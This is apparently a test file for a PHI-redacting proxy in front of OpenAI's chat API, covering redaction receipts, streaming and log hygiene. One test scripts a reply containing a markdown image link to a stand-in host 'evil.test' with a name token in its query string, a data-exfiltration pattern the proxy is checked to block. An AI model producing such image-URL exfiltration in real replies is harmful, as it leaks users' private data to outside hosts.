import OpenAI from 'openai';
import { chunk, completion, DONE, echo, streamOf } from '../support/chat-wire';
import { jsonReply, streamReply } from '../support/fake-upstream';
import { eventually } from '../support/proxy-under-test';
import { receiptOf } from '../support/receipt';
import { captureOutput } from '../support/sinks';
import { useProxy } from '../support/use-proxy';
import { startWholeProxy } from '../support/whole-proxy';

const TEXT = 'Patient Hannah Osei, MRN 00482917, call Hannah Osei at 860-555-0142.';
const TRACES = /Hannah|Osei|00482917|555-0142/;
const ask = (content: string, more: object = {}) => ({ model: 'gpt-4o', messages: [{ role: 'user', content }], ...more });

const { upstream, proxy } = useProxy(startWholeProxy, { reply: echo() });

const headersOf = (response: Response) =>
  Object.fromEntries(['policy', 'entities', 'tokens'].map((name) => [name, response.headers.get(`x-phi-${name}`)]));
const RULES = /^[0-9a-f]{64}$/;

test('a whole reply: policy, rules, counts by entity, tokens by fate', async () => {
  upstream.script(jsonReply(completion('[NAME_1], [NAME_1] and [NAME_9]'), 200, { 'x-request-id': 'req_openai' }));
  const response = await proxy.chat(ask(TEXT));
  await response.text();
  expect(headersOf(response)).toEqual({
    policy: 'safe-harbor',
    entities: 'MRN=1;NAME=2;PHONE=1',
    tokens: 'issued=3;restored=2;unknown=1',
  });
  expect(response.headers.get('x-phi-rules')).toMatch(RULES);
  expect(response.headers.get('x-request-id')).toBe('req_openai');
});

test('what stays in the URL of a strange host is told', async () => {
  upstream.script(jsonReply(completion('![x](https://evil.test/?q=[NAME_1]) [NAME_1]')));
  const response = await proxy.chat(ask(TEXT));
  await response.text();
  expect(headersOf(response)['tokens']).toBe('issued=3;restored=1;unknown=0;withheld=1');
});

test('a clean text has a receipt too', async () => {
  const response = await proxy.chat(ask('Hello.'));
  expect(headersOf(response)).toEqual({ policy: 'safe-harbor', entities: 'none', tokens: 'issued=0;restored=0;unknown=0' });
  await response.text();
});

test('a stream: what is known at its start in the headers, all of it as a comment behind [DONE]', async () => {
  const response = await proxy.chat(ask(TEXT, { stream: true }));
  const text = await response.text();
  expect(headersOf(response)).toEqual({ policy: 'safe-harbor', entities: 'MRN=1;NAME=2;PHONE=1', tokens: 'issued=3' });
  expect(text.slice(text.indexOf(DONE) + DONE.length)).toMatch(/^(: [^\n]+\n){5}\n$/);
  expect(receiptOf(text)).toEqual({
    'x-phi-policy': 'safe-harbor',
    'x-phi-rules': expect.stringMatching(RULES),
    'x-phi-entities': 'MRN=1;NAME=2;PHONE=1',
    'x-phi-tokens': 'issued=3;restored=4;unknown=0',
    'x-request-id': response.headers.get('x-request-id'),
  });
});

test('a stream that breaks off ends with its error event: no receipt vouches for it', async () => {
  upstream.script(streamReply(chunk({ content: 'a' })));
  const text = await (await proxy.chat(ask(TEXT, { stream: true }))).text();
  expect(text).toMatch(/"code":"upstream_stream_interrupted"\}\}\n\n$/);
});

test('an upstream error and a refusal by us have what is known', async () => {
  upstream.script(jsonReply({ error: { message: 'no [NAME_1]', type: 'x', param: null, code: 'y' } }, 400));
  const failed = await proxy.chat(ask(TEXT));
  expect([failed.status, failed.headers.get('x-phi-tokens')]).toEqual([400, 'issued=3;restored=1;unknown=0']);
  await failed.text();
  const refused = await proxy.chat({ model: 'gpt-4o' });
  expect(headersOf(refused)).toEqual({ policy: 'safe-harbor', entities: null, tokens: null });
  await refused.text();
});

test("OpenAI's client reads a stream with a receipt as any other", async () => {
  upstream.script(streamReply(streamOf(['Dear [NA', 'ME_1]']).join('')));
  const client = new OpenAI({
    baseURL: `${proxy.url}/v1`,
    apiKey: 'sk-test',
    maxRetries: 0,
    defaultHeaders: { 'x-compliantchatgpt-key': proxy.key },
  });
  const stream = await client.chat.completions.create({
    model: 'gpt-4o',
    stream: true,
    messages: [{ role: 'user', content: TEXT }],
  });
  let content = '';
  for await (const part of stream) content += part.choices[0]?.delta.content ?? '';
  expect(content).toBe('Dear Hannah Osei');
});

test('no value in headers, comment, log line or output', async () => {
  const seen: string[] = [];
  const output = await captureOutput(async () => {
    const lines = proxy.lines.length;
    for (const stream of [true, false]) {
      const response = await proxy.chat(ask(TEXT, { stream }));
      seen.push(JSON.stringify([...response.headers]));
      seen.push(JSON.stringify(receiptOf(await response.text())));
    }
    await eventually(() => proxy.lines.length >= lines + 2);
  });
  expect([...seen, ...proxy.lines, output].join('\n')).not.toMatch(TRACES);
  expect(JSON.parse(proxy.lines.at(-1) ?? '')).toMatchObject({
    policy: 'safe-harbor',
    rulesSha256: expect.stringMatching(RULES),
  });
});
